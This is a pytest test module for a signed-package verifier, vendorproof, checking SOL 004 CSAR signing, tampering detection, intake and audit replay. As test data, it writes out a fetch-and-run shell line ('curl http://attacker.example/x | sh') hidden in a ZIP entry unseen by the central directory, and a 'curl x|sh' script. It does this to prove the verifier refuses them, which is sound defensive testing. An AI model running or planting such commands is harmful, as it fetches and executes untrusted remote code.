"""SOL 004 packages (CSAR) through the command line: verify, intake, audit replay.

Packages are built here as vendors build them (``openssl cms -sign`` over the
manifest, tests/assets/onap-sol004/README.md) with the test PKI: an ECDSA P-256 signer
with code-signing EKU under the strict profile. ONAP's real package is verified under
the legacy profile with its own certificate pinned, at a time inside its validity.
Each tampering fails the check that names it.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding
from typer.testing import Result

from tests import pki
from tests.builders import KEYS, policy_data, write_policy
from tests.cli.support import assert_error, assert_ok, invoke
from tests.cms_support import openssl_cms_sign
from vendorproof._cli import ExitCode
from vendorproof.verify import delivery as evaluation
from vendorproof.verify.cms import embedded_certificates

AT = "2026-06-01T00:00:00Z"
OP_KEY = KEYS / "operator" / "intake.key"
OP_PUB = KEYS / "operator" / "intake.pub"
ONAP = Path(__file__).resolve().parents[1] / "assets" / "onap-sol004"
META = (
    "TOSCA-Meta-File-Version: 1.0\nCSAR-Version: 1.1\nCreated-By: Acme SOL\n"
    "Entry-Definitions: Definitions/main.yaml\nETSI-Entry-Manifest: main.mf\n"
    "ETSI-Entry-Change-Log: Files/ChangeLog.txt\n"
)
FILES = {
    "TOSCA-Metadata/TOSCA.meta": META.encode(),
    "Definitions/main.yaml": b"tosca_definitions_version: tosca_simple_yaml_1_3\n",
    "Files/ChangeLog.txt": b"1.0: first release\n",
    "Files/image.img": os.urandom(2 * 1024 * 1024 + 3),
}


class Vendor:
    def __init__(self, base: Path) -> None:
        self.base = base
        self.root = pki.make_root("Acme SOL Root", org="Acme SOL")
        self.leaf = pki.make_leaf("Acme SOL Release Signing", self.root, org="Acme SOL")
        self.cert = base / "signer.pem"
        self.key = base / "signer.key"
        pki.write_pem(self.cert, self.leaf.cert_pem())
        pki.write_pem(self.key, self.leaf.key_pem())
        pki.write_pem(base / "root.pem", self.root.cert_pem())


@pytest.fixture(scope="module")
def vendor(tmp_path_factory: pytest.TempPathFactory) -> Vendor:
    return Vendor(tmp_path_factory.mktemp("sol004-vendor"))


def manifest_text(files: dict[str, bytes], provider: str = "acme-sol") -> bytes:
    lines = [
        "metadata:\n",
        f"  vnf_provider_id: {provider}\n",
        "  vnf_product_name: AcmeVNF\n",
        "  vnf_release_date_time: 2026-05-01T10:00:00+00:00\n",
        "  vnf_package_version: 2.1.0\n",
    ]
    for name, data in files.items():
        digest = hashlib.sha256(data).hexdigest()
        lines.append(f"\nSource: {name}\nAlgorithm: SHA-256\nHash: {digest}\n")
    return "".join(lines).encode()


def build(
    tmp: Path,
    vendor: Vendor,
    *,
    name: str = "acme.csar",
    files: dict[str, bytes] | None = None,
    listed: dict[str, bytes] | None = None,
    provider: str = "acme-sol",
    edit_manifest: Callable[[bytes], bytes] | None = None,
    extra: dict[str, bytes] | None = None,
) -> Path:
    """A signed CSAR: the manifest lists ``listed`` (default ``files``)."""
    files = dict(FILES if files is None else files)
    mf = manifest_text(dict(files if listed is None else listed), provider)
    cms = openssl_cms_sign(tmp, mf, vendor.cert, vendor.key)
    signed = mf + cms
    if edit_manifest is not None:
        signed = edit_manifest(signed)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("main.mf", signed)
        for member, data in {**files, **(extra or {})}.items():
            z.writestr(member, data)
    path = tmp / name
    path.write_bytes(buf.getvalue())
    return path


def policy(
    tmp: Path,
    anchor: Path,
    *,
    vendor_id: str = "acme-sol",
    subject: str = "CN=*,O=Acme SOL,C=DE",
    profile: str = "strict",
    crls: list[Path] | None = None,
) -> Path:
    data: dict[str, Any] = policy_data()
    data["vendors"] = [
        {
            "id": vendor_id,
            "name": "Acme SOL Networks",
            "anchors": [str(anchor)],
            "identities": [{"subject": subject}],
            "certificateProfile": profile,
        }
    ]
    data["trustDeclaration"] = "optional"
    data["certification"] = {"requirements": []}
    data["algorithms"]["minRsaBits"] = 2048  # ONAP's signers have RSA-2048 keys
    data["revocation"] = {
        "mode": "if-available",
        "crls": [str(c) for c in crls or []],
    }
    return write_policy(tmp / f"policy-{profile}-{vendor_id}.yaml", data)


def verify_json(package: Path, pol: Path, at: str = AT) -> tuple[int, dict[str, Any]]:
    result = invoke("verify", package, "--policy", pol, "--at", at, "--format", "json")
    assert "Traceback" not in result.output
    return result.exit_code, json.loads(result.stdout)


def failed(report: dict[str, Any]) -> set[str]:
    return {c["check"] for c in report["checks"] if c["outcome"] == "fail"}


def _replayed(store: Path, *extra: str | Path) -> tuple[Result, dict[str, Any]]:
    """``audit replay --json`` of a store holding one record, and that record."""
    result = invoke(
        "audit", "replay", "--store", store, "--operator-pub", OP_PUB, "--json", *extra
    )
    assert "Traceback" not in result.output
    (record,) = json.loads(result.stdout)["records"]
    return result, record


def _intake(package: Path, pol: Path, store: Path, at: str = AT) -> Result:
    """``intake`` of ``package`` into ``store`` with the operator's test key."""
    return invoke(
        "intake", package, "--policy", pol, "--operator-key", OP_KEY,
        "--store", store, "--at", at,
    )  # fmt: skip


def test_signed_package_verifies(tmp_path: Path, vendor: Vendor) -> None:
    package = build(tmp_path, vendor)
    code, report = verify_json(package, policy(tmp_path, vendor.base / "root.pem"))
    assert code == ExitCode.OK, failed(report)
    assert report["verdict"] == "PASSED"
    delivery = report["delivery"]
    assert delivery["format"] == "sol004"
    assert delivery["product"] == "AcmeVNF"
    assert delivery["version"] == "2.1.0"
    assert delivery["principal"]["id"] == "acme-sol"
    checks = {c["check"]: c for c in report["checks"]}
    assert checks["vendor-binding"]["outcome"] == "pass"
    assert "code-signing profile" in checks["certificate-chain"]["reason"]
    assert "signingTime claims" in checks["signature"]["reason"]
    assert set(report["inputs"]) == {"TOSCA-Metadata/TOSCA.meta", "main.mf"}


def test_release_time_and_k_of_n(tmp_path: Path, vendor: Vendor) -> None:
    """The metadata release date time is the report's releaseDate; the CMS signer
    counts once toward signatureRequirements.manifest."""
    import yaml

    package = build(tmp_path, vendor)
    pol = policy(tmp_path, vendor.base / "root.pem")
    code, report = verify_json(package, pol)
    assert code == ExitCode.OK, failed(report)
    assert report["delivery"]["releaseDate"] == "2026-05-01T10:00:00Z"
    assert "signature-threshold" not in {c["check"] for c in report["checks"]}
    data = yaml.safe_load(pol.read_text())
    for n, outcome in ((1, "pass"), (2, "fail")):
        data["signatureRequirements"] = {
            "manifest": [{"role": "vendor", "threshold": n}]
        }
        pol.write_text(yaml.safe_dump(data))
        code, report = verify_json(package, pol)
        (check,) = [c for c in report["checks"] if c["check"] == "signature-threshold"]
        assert check["outcome"] == outcome
        assert check["subject"] == "main.mf"
        assert (
            f"vendor: 1 of required {n} (keys of vendor 'acme-sol')"
            in (check["reason"])
        )
        assert code == (ExitCode.OK if n == 1 else ExitCode.VERIFICATION_FAILED)


@pytest.mark.parametrize(
    ("tamper", "check"),
    [
        ("file", "integrity"),
        ("manifest", "signature"),
        ("vendor", "vendor-binding"),
        ("unlisted", "unlisted-files"),
        ("certificate-location", "attestations"),
        ("unsigned", "signature"),
    ],
)
def test_tampering_fails_the_right_check(
    tmp_path: Path, vendor: Vendor, tamper: str, check: str
) -> None:
    pol = policy(tmp_path, vendor.base / "root.pem")
    if tamper == "file":
        changed = {**FILES, "Files/image.img": b"patched" + FILES["Files/image.img"]}
        package = build(tmp_path, vendor, files=changed, listed=FILES)
    elif tamper == "manifest":
        package = build(
            tmp_path,
            vendor,
            edit_manifest=lambda b: b.replace(b"2.1.0", b"2.1.1", 1),
        )
    elif tamper == "vendor":
        package = build(tmp_path, vendor, provider="other-vendor")
    elif tamper == "unlisted":
        package = build(tmp_path, vendor, extra={"Files/backdoor.sh": b"#!/bin/sh\n"})
    elif tamper == "certificate-location":
        meta = META + "ETSI-Entry-Certificate: Files/signer.cert\n"
        files = {**FILES, "TOSCA-Metadata/TOSCA.meta": meta.encode()}
        package = build(
            tmp_path,
            vendor,
            files=files,
            extra={"Files/signer.cert": vendor.leaf.cert_pem()},
        )
    else:
        package = build(
            tmp_path,
            vendor,
            edit_manifest=lambda b: b.split(b"-----BEGIN CMS-----")[0],
        )
    code, report = verify_json(package, pol)
    assert code == ExitCode.VERIFICATION_FAILED
    assert check in failed(report), report["checks"]


MALLORY_META = META.replace("Created-By: Acme SOL", "Created-By: Mallory").replace(
    "Entry-Definitions: Definitions/main.yaml", "Entry-Definitions: Files/evil.yaml"
)


@pytest.mark.parametrize(
    ("case", "check", "subject"),
    [
        ("changed", "integrity", "TOSCA-Metadata/TOSCA.meta"),
        ("unlisted", "unlisted-files", "TOSCA-Metadata/TOSCA.meta"),
        ("entry-missing", "attestations", "TOSCA-Metadata/TOSCA.meta"),
    ],
)
def test_tosca_meta_is_protected_like_any_file(
    tmp_path: Path, vendor: Vendor, case: str, check: str, subject: str
) -> None:
    """TOSCA.meta names the service template to deploy: a manifest that hashes it
    catches a change; one that leaves it out leaves an unlisted file; an entry it
    names must exist."""
    pol = policy(tmp_path, vendor.base / "root.pem")
    evil = {"Files/evil.yaml": b"tosca_definitions_version: evil\n"}
    if case == "changed":
        files = {**FILES, **evil, "TOSCA-Metadata/TOSCA.meta": MALLORY_META.encode()}
        package = build(tmp_path, vendor, files=files, listed={**FILES, **evil})
    elif case == "unlisted":
        listed = {k: v for k, v in FILES.items() if k != "TOSCA-Metadata/TOSCA.meta"}
        package = build(tmp_path, vendor, listed=listed)
    else:
        files = {**FILES, "TOSCA-Metadata/TOSCA.meta": MALLORY_META.encode()}
        package = build(tmp_path, vendor, files=files)
    code, report = verify_json(package, pol)
    assert code == ExitCode.VERIFICATION_FAILED
    subjects = {
        c["subject"]
        for c in report["checks"]
        if c["check"] == check and c["outcome"] == "fail"
    }
    assert subject in subjects, report["checks"]


def test_revoked_signer(tmp_path: Path, vendor: Vendor) -> None:
    crl = pki.make_crl(
        vendor.root,
        [(vendor.leaf.cert.serial_number, datetime(2026, 1, 1, tzinfo=UTC))],
    )
    crl_path = tmp_path / "root.crl.pem"
    crl_path.write_bytes(pki.crl_pem(crl))
    pol = policy(tmp_path, vendor.base / "root.pem", crls=[crl_path])
    code, report = verify_json(build(tmp_path, vendor), pol)
    assert code == ExitCode.VERIFICATION_FAILED
    assert "revocation" in failed(report)


def test_detached_signature_rule(tmp_path: Path, vendor: Vendor) -> None:
    pol = policy(tmp_path, vendor.base / "root.pem")
    text = pol.read_text(encoding="utf-8").replace(
        "certificateProfile: strict",
        "certificateProfile: strict\n  detachedSignatures: ['*.img']",
    )
    pol.write_text(text, encoding="utf-8")
    code, report = verify_json(build(tmp_path, vendor), pol)
    assert code == ExitCode.VERIFICATION_FAILED
    assert "detached-signature" in failed(report)
    image = FILES["Files/image.img"]
    signed = build(
        tmp_path,
        vendor,
        name="signed-image.csar",
        extra={
            "Files/image.img.p7s": openssl_cms_sign(
                tmp_path, image, vendor.cert, vendor.key, outform="DER"
            )
        },
    )
    code, report = verify_json(signed, pol)
    assert code == ExitCode.OK, failed(report)
    checks = [c for c in report["checks"] if c["check"] == "detached-signature"]
    assert [c["outcome"] for c in checks] == ["pass"]
    wrong = build(
        tmp_path,
        vendor,
        name="wrong-image.csar",
        extra={
            "Files/image.img.cms": openssl_cms_sign(
                tmp_path, b"another image", vendor.cert, vendor.key
            )
        },
    )
    code, report = verify_json(wrong, pol)
    assert "detached-signature" in failed(report)


def test_detached_signature_with_another_digest(tmp_path: Path, vendor: Vendor) -> None:
    """A ``.p7s`` made with SHA-512 over an image the manifest lists with SHA-256."""
    rsa = pki.make_leaf(
        "Acme SOL Image Signing", vendor.root, org="Acme SOL", key_kind="rsa-2048"
    )
    cert, key = tmp_path / "rsa.pem", tmp_path / "rsa.key"
    pki.write_pem(cert, rsa.cert_pem())
    pki.write_pem(key, rsa.key_pem())
    image = FILES["Files/image.img"]
    for md, tampered, expected in (
        ("sha512", False, ExitCode.OK),
        ("sha384", False, ExitCode.OK),
        ("sha512", True, ExitCode.VERIFICATION_FAILED),
    ):
        signed = openssl_cms_sign(
            tmp_path, b"x" + image if tampered else image, cert, key, "-md", md
        )
        package = build(
            tmp_path,
            vendor,
            name=f"image-{md}-{tampered}.csar",
            extra={"Files/image.img.p7s": signed},
        )
        code, report = verify_json(package, policy(tmp_path, vendor.base / "root.pem"))
        assert code == expected, failed(report)
        checks = [c for c in report["checks"] if c["check"] == "detached-signature"]
        assert [c["outcome"] for c in checks] == ["fail" if tampered else "pass"]
        measured = report["delivery"]["measured"]["Files/image.img"]["digests"]
        assert set(measured) == {"sha256", md}


def _onap_cert() -> tuple[Path, x509.Certificate]:
    with zipfile.ZipFile(ONAP / "csar-cert-in-cms-valid.csar") as z:
        text = z.read("pnf_main_descriptor.mf")
    cms = text[text.index(b"-----BEGIN CMS-----") :]
    (cert,) = embedded_certificates(cms, file="m")
    return ONAP / "csar-cert-in-cms-valid.csar", cert


def _onap_legacy_policy(tmp_path: Path) -> Path:
    """ONAP's package signer pinned as vendor ``Acme``, legacy profile."""
    _, cert = _onap_cert()
    anchor = tmp_path / "onap.pem"
    anchor.write_bytes(cert.public_bytes(Encoding.PEM))
    return policy(
        tmp_path,
        anchor,
        vendor_id="Acme",
        subject=cert.subject.rfc4514_string(),
        profile="legacy",
    )


def test_onap_package_under_the_legacy_profile(tmp_path: Path) -> None:
    package, cert = _onap_cert()
    anchor = tmp_path / "onap.pem"
    anchor.write_bytes(cert.public_bytes(Encoding.PEM))
    subject = cert.subject.rfc4514_string()
    at = "2020-09-25T00:00:00Z"
    strict = policy(tmp_path, anchor, vendor_id="Acme", subject=subject)
    code, report = verify_json(package, strict, at)
    assert code == ExitCode.VERIFICATION_FAILED
    assert "certificate-chain" in failed(report)
    legacy = policy(
        tmp_path, anchor, vendor_id="Acme", subject=subject, profile="legacy"
    )
    code, report = verify_json(package, legacy, at)
    assert code == ExitCode.OK, [c for c in report["checks"] if c["outcome"] == "fail"]
    warnings = [c for c in report["checks"] if c["check"] == "certificate-profile"]
    assert warnings
    assert all(c["outcome"] == "warn" for c in warnings)
    # ONAP lists TOSCA.meta without a digest: the report says it is unprotected.
    (meta,) = [
        c for c in report["checks"] if c["subject"] == "TOSCA-Metadata/TOSCA.meta"
    ]
    assert (meta["check"], meta["outcome"]) == ("attestations", "warn")
    assert "no digest protects TOSCA.meta" in meta["reason"]
    # Outside the certificate's validity: fails even under the legacy profile.
    code, report = verify_json(package, legacy, AT)
    assert "certificate-chain" in failed(report)


@pytest.mark.parametrize(
    ("name", "check"),
    [
        ("csar-cert-in-cms-incorrect-hash.csar", "integrity"),
        ("csar-cert-in-cms-and-tosca.csar", "attestations"),
        ("csar-not-secure-warning.csar", "signature"),
        # Option 2: the outer signer is not the pinned certificate, and the CSAR
        # inside has no option 1 signature (tests/cli/test_sol004_option2.py).
        ("signature-and-certificate.zip", "signature"),
        ("broken.zip", "attestations"),
    ],
)
def test_onap_packages_that_fail(tmp_path: Path, name: str, check: str) -> None:
    pol = _onap_legacy_policy(tmp_path)
    code, report = verify_json(ONAP / name, pol, "2020-09-25T00:00:00Z")
    assert code == ExitCode.VERIFICATION_FAILED
    assert check in failed(report)


def test_intake_and_replay(tmp_path: Path, vendor: Vendor) -> None:
    package = build(tmp_path, vendor)
    pol = policy(tmp_path, vendor.base / "root.pem")
    store = tmp_path / "evidence.db"
    result = _intake(package, pol, store)
    assert_ok(result)
    tampered = build(
        tmp_path,
        vendor,
        name="tampered.csar",
        files={**FILES, "Files/image.img": b"x"},
        listed=FILES,
    )
    result = _intake(tampered, pol, store)
    assert result.exit_code == ExitCode.VERIFICATION_FAILED
    result = invoke(
        "audit", "replay", "--store", store, "--operator-pub", OP_PUB, "--json", "--all"
    )
    assert_ok(result)
    replay = json.loads(result.stdout)
    assert len(replay["records"]) == 2
    # With the package at hand the files are hashed again: the same verdicts.
    result = invoke(
        "audit", "replay", "--store", store, "--operator-pub", OP_PUB,
        "--images", package,
    )  # fmt: skip
    assert "Traceback" not in result.output


def test_an_unreadable_manifest_is_recorded_and_replays(
    tmp_path: Path, vendor: Vendor
) -> None:
    """A member whose bytes fail their CRC-32: a failed finding now and in replay."""
    import zipfile

    package = build(tmp_path, vendor)
    with zipfile.ZipFile(package) as z:
        members = {n: z.read(n) for n in z.namelist()}
    corrupt = tmp_path / "corrupt.csar"
    with zipfile.ZipFile(corrupt, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    raw = bytearray(corrupt.read_bytes())
    at = bytes(raw).index(b"metadata:")
    raw[at] = ord("M")
    corrupt.write_bytes(bytes(raw))
    pol = policy(tmp_path, vendor.base / "root.pem")
    store = tmp_path / "evidence.db"
    result = invoke(
        "intake", corrupt, "--policy", pol, "--operator-key", OP_KEY,
        "--store", store, "--at", AT, "--format", "json",
    )  # fmt: skip
    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
    assert "attestations" in failed(json.loads(result.stdout))
    result = invoke("audit", "replay", "--store", store, "--operator-pub", OP_PUB)
    assert_ok(result)


def test_not_a_zip(tmp_path: Path) -> None:
    bad = tmp_path / "broken.csar"
    bad.write_bytes(b"PK\x03\x04 not really a zip")
    pol = policy(tmp_path, tmp_path / "missing.pem")
    result = invoke("verify", bad, "--policy", pol, "--at", AT)
    assert_error(result, ExitCode.INVALID_INPUT)


def _hide(raw: bytes, entry: bytes, *, first: bool) -> bytes:
    """``raw`` with a local entry no central directory entry points at: before the
    directory, or first with every offset shifted (a well-formed ZIP for zipfile)."""
    end = raw.rindex(b"PK\x05\x06")
    size, start = (
        int.from_bytes(raw[end + 12 : end + 16], "little"),
        int.from_bytes(raw[end + 16 : end + 20], "little"),
    )
    if not first:
        out = bytearray(raw[:start] + entry + raw[start:])
    else:
        out = bytearray(entry + raw)
        at = len(entry) + start
        while at < len(entry) + start + size:
            n, m, k = (
                int.from_bytes(out[at + i : at + i + 2], "little") for i in (28, 30, 32)
            )
            offset = int.from_bytes(out[at + 42 : at + 46], "little") + len(entry)
            out[at + 42 : at + 46] = offset.to_bytes(4, "little")
            at += 46 + n + m + k
    moved = end + len(entry)
    out[moved + 16 : moved + 20] = (start + len(entry)).to_bytes(4, "little")
    return bytes(out)


@pytest.mark.parametrize("first", [False, True], ids=["before-directory", "first"])
def test_a_hidden_entry_in_a_signed_package_is_refused(
    tmp_path: Path, *, first: bool
) -> None:
    """ONAP's valid package with an attacker's script no directory entry points at.

    Java's ZipInputStream (a streaming reader) extracts it; vendorproof verified the
    package before the layout check (docs/sol004.md, "Reading ZIP archives").
    """
    import zlib

    package, _ = _onap_cert()
    script = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
    name = b"Files/Scripts/my_script.sh"
    local = (
        b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x21\x00"
        + zlib.crc32(script).to_bytes(4, "little")
        + len(script).to_bytes(4, "little") * 2
        + len(name).to_bytes(2, "little")
        + b"\x00\x00"
        + name
        + script
    )
    hidden = tmp_path / "hidden.csar"
    hidden.write_bytes(_hide(package.read_bytes(), local, first=first))
    with zipfile.ZipFile(hidden) as z:  # zipfile reads it, the hidden file unseen
        assert z.namelist() == zipfile.ZipFile(package).namelist()
    pol = _onap_legacy_policy(tmp_path)
    at = "2020-09-25T00:00:00Z"
    assert verify_json(package, pol, at)[0] == ExitCode.OK
    result = invoke("verify", hidden, "--policy", pol, "--at", at)
    assert_error(
        result, ExitCode.INVALID_INPUT, "hidden.csar", "no member of the archive"
    )
    store = tmp_path / "evidence.db"
    result = _intake(hidden, pol, store, at=at)
    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
    assert "verdict: FAILED" in result.stdout
    # The refusal came from the archive, not from the documents stored with the
    # record: replay confirms the FAILED record from the record alone, and with
    # the package at hand shows the refusal again.
    for images in ((), ("--images", hidden)):
        result, record = _replayed(store, *images)
        assert_ok(result)
        assert (record["recorded"], record["replayed"]) == ("FAILED", "FAILED")
    # Another package at hand (here the intact one) does not show the refusal.
    result, record = _replayed(store, "--images", package)
    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
    assert record["problems"], record


# ------------------------------------------------- one snapshot: load, then measure


def _between_load_and_measure(
    monkeypatch: pytest.MonkeyPatch, change: Callable[[Path], object]
) -> None:
    """Run ``change`` on the package after it was loaded, before it is measured."""
    from vendorproof.formats.csar import CsarFormat

    measure = CsarFormat.measure

    def changed_then_measured(
        self: CsarFormat, path: Path, *args: Any, **kwargs: Any
    ) -> Any:
        change(path)
        return measure(self, path, *args, **kwargs)

    monkeypatch.setattr(CsarFormat, "measure", changed_then_measured)


def test_a_package_replaced_after_it_was_loaded_is_refused(
    tmp_path: Path, vendor: Vendor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The vendor's signed package, swapped (a drop directory the vendor can still
    write to) for the same package with a file its manifest does not list, after
    its listing and metadata were read: its listed files would all match, the
    unlisted one would go unseen. The package is verified as one snapshot; intake
    records the refusal with what was loaded (the manifest read and the listing),
    not the file that replaced it."""
    package = build(tmp_path, vendor)
    loaded_mf = zipfile.ZipFile(package).read("main.mf")
    pol = policy(tmp_path, vendor.base / "root.pem")
    swapped = build(
        tmp_path, vendor, name="swapped.csar", extra={"Scripts/run.sh": b"curl x|sh"}
    )
    assert zipfile.ZipFile(swapped).read("main.mf") != loaded_mf  # signed anew
    code, report = verify_json(swapped, pol)  # on its own: an unlisted file
    assert code == ExitCode.VERIFICATION_FAILED
    assert "unlisted-files" in failed(report)

    def swap(path: Path) -> None:
        new = path.with_suffix(".new")
        new.write_bytes(swapped.read_bytes())
        new.replace(path)

    _between_load_and_measure(monkeypatch, swap)
    result = invoke("verify", package, "--policy", pol, "--at", AT)
    assert_error(
        result, ExitCode.INVALID_INPUT, "acme.csar", "changed after it was loaded"
    )
    package = build(tmp_path, vendor)
    loaded_mf = zipfile.ZipFile(package).read("main.mf")
    store = tmp_path / "evidence.db"
    result = _intake(package, pol, store)
    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
    shown = json.loads(invoke("evidence", "show", "1", "--store", store).stdout)
    predicate = shown["statement"]["predicate"]["vendorproof"]
    assert predicate["inputs"]["main.mf"] == hashlib.sha256(loaded_mf).hexdigest()
    assert "Scripts/run.sh" not in predicate["delivery"]["listing"]["payload"]


def test_a_package_written_to_after_it_was_loaded_is_refused(
    tmp_path: Path, vendor: Vendor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same file written in place (its times change with any write; here only
    its modification time is set back by a second, which changes its change time):
    intake records the refusal as a failed verification, and verifies the package
    once it stays as loaded. Replay confirms the failed record, also with the
    package at hand (which verifies today: the change was a state of the moment of
    intake, not of the bytes)."""
    package = build(tmp_path, vendor)
    pol = policy(tmp_path, vendor.base / "root.pem")

    def touched(path: Path) -> None:
        st = path.stat()
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns - 10**9))

    _between_load_and_measure(monkeypatch, touched)
    store = tmp_path / "evidence.db"
    result = _intake(package, pol, store)
    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
    assert "Traceback" not in result.output
    monkeypatch.undo()
    for images in ((), ("--images", package)):
        result, record = _replayed(store, *images)
        assert_ok(result)
        assert (record["recorded"], record["replayed"]) == ("FAILED", "FAILED")
        assert record["problems"] == []
    result = _intake(package, pol, store)
    assert_ok(result)


def test_a_corrupt_member_is_recorded_and_its_record_replays(
    tmp_path: Path, vendor: Vendor
) -> None:
    """A member whose data fails its CRC-32 stops the measurement: intake records a
    FAILED verdict naming the member, and replay confirms it, from the record alone
    (which holds no measurement: it stands as recorded) and from the package."""
    signed = build(tmp_path, vendor, name="signed.csar")
    with zipfile.ZipFile(signed) as src:
        members = {n: src.read(n) for n in src.namelist()}
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_STORED) as z:
        for member, data in members.items():
            z.writestr(member, data)
    raw = bytearray(stored.getvalue())
    info = zipfile.ZipFile(io.BytesIO(bytes(raw))).getinfo("Files/image.img")
    raw[info.header_offset + 30 + len(info.filename) + len(info.extra) + 7] ^= 1
    package = tmp_path / "acme.csar"
    package.write_bytes(bytes(raw))
    pol = policy(tmp_path, vendor.base / "root.pem")
    store = tmp_path / "evidence.db"
    result = _intake(package, pol, store)
    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
    out = " ".join(result.stdout.split())
    assert "Files/image.img: member data is corrupt" in out
    assert (
        "vendor: none verified (the delivery could not be verified: see error)" in out
    )
    # From the record alone, under its policy or another (nothing measured passes
    # under none), and with the corrupt package, which shows the error again.
    renamed = tmp_path / "delivery-42.csar"
    renamed.write_bytes(package.read_bytes())
    for extra in (
        (),
        ("--policy", pol),
        ("--images", package),
        ("--images", renamed),
        ("--policy", pol, "--images", package),
    ):
        result, record = _replayed(store, *extra)
        assert_ok(result)
        assert (record["recorded"], record["replayed"]) == ("FAILED", "FAILED")
        assert record["problems"] == []
    # Another package at hand is no confirmation: the intact one (it passes) and
    # one whose image does not match the manifest (it fails for another reason).
    mismatched = build(
        tmp_path,
        vendor,
        name="mismatched.csar",
        files={**FILES, "Files/image.img": b"another image"},
        listed=FILES,
    )
    for other in (signed, mismatched):
        result, record = _replayed(store, "--images", other)
        assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
        assert record["problems"], record


def test_a_verifier_bug_is_contained_per_record_in_replay(
    tmp_path: Path, vendor: Vendor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A package that makes the verifier fail (a bug, simulated here) is recorded as
    FAILED with the failure; replay contains the same failure to that record (the
    same failure confirms it), and reports it for a record it does not confirm,
    without ending the replay of the others."""
    package = build(tmp_path, vendor)
    pol = policy(tmp_path, vendor.base / "root.pem")
    store = tmp_path / "evidence.db"
    intake = ("intake", package, "--policy", pol, "--operator-key", OP_KEY)
    assert_ok(invoke(*intake, "--store", store, "--at", AT))  # record 1: PASSED

    def crafted(*_args: object, **_kwargs: object) -> None:
        raise KeyError("crafted")

    monkeypatch.setattr(evaluation, "check_integrity", crafted)
    result = invoke(*intake, "--store", store, "--at", "2026-06-02T00:00:00Z")
    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
    assert "internal error: KeyError: 'crafted'" in " ".join(result.stdout.split())
    result = invoke(
        "audit", "replay", "--store", store, "--operator-pub", OP_PUB, "--json", "--all"
    )
    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
    first, second = json.loads(result.stdout)["records"]
    assert first["problems"] == [
        (
            "cannot re-run: KeyError: 'crafted' (a failure of vendorproof or its "
            "environment while re-running this record)"
        )
    ]
    assert (second["recorded"], second["replayed"], second["problems"]) == (
        "FAILED",
        "FAILED",
        [],
    )
    # Once the verifier no longer fails, its record of the failure is reported: the
    # delivery was never judged on its merits.
    monkeypatch.undo()
    result = invoke(
        "audit", "replay", "--store", store, "--operator-pub", OP_PUB, "--json", "--all"
    )
    assert result.exit_code == ExitCode.VERIFICATION_FAILED, result.output
    first, second = json.loads(result.stdout)["records"]
    assert first["problems"] == []
    (problem,) = second["problems"]
    assert problem.startswith(
        "cannot re-run: recorded as a failure of the verifier (internal error: "
    )
